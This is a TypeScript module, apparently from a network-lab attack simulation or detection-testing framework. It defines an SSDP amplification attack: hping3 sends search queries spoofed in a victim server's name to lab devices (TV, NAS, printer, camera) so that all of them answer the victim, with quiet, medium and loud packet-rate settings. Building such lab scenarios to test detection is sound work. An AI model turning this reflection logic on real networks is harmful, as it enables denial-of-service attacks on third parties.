import type { Attack, Intensity } from '../contracts.ts';
import { searchQuestion } from '../programs/large-answers.ts';
import type { HpingPlan } from './hping.ts';
import { reflect } from './reflection.ts';

/** For each device; each answers eight times. */
const plans: Readonly<Record<Intensity, HpingPlan>> = {
  quiet: { packetsPerSecond: 0.25, mostPackets: 20 },
  medium: { packetsPerSecond: 4, mostPackets: 100 },
  loud: { packetsPerSecond: 40, mostPackets: 450 },
};
const ssdpPort = 1900;
const victimPort = 21_900;

/** Wholly inside: a stranger asks in the name of another, and every device answers that one. */
export const ssdpAmplification: Attack = {
  kind: 'ssdp-amplification',
  summary: 'devices inside are searched in the name of a neighbour, and all answer it',
  needs: ['hping3'],
  intensities: ['quiet', 'medium', 'loud'],
  actor: 'guest',
  targets: ['server'],
  async run(order) {
    const victim = order.targets[0]?.address ?? '';
    const devices = ['tv', 'nas', 'printer', 'camera'].map(name => order.lab.host(name));
    const called = await reflect(order, {
      kind: 'ssdp',
      servicePort: ssdpPort,
      reflectors: devices.map(host => [host, [host.address]] as const),
      question: searchQuestion('239.255.255.250'),
      victim,
      victimPort,
      plan: plans[order.intensity],
    });
    const between = { actors: [victim], targets: devices.map(({ address }) => address) };
    return {
      tool: 'hping3',
      arguments: called,
      claims: [
        { ...between, protocol: 'udp', targetPorts: [ssdpPort], actorPorts: [victimPort] },
        { ...between, protocol: 'icmp' },
      ],
    };
  },
};
